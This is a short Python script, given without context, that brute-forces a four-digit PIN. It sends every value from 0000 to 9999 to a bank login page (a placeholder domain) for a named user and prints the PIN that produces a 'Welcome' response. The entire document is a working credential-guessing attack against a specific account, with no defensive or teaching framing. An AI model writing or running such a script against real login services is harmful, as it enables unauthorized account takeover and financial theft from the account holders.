import requests
session = requests.Session()
for i in range(10_000):
    pin = f"{i:04d}"
    r = session.post("https://bank.example.com/login", data={"user": "j.smith", "pin": pin})
    if "Welcome" in r.text:
        print(pin)
        break
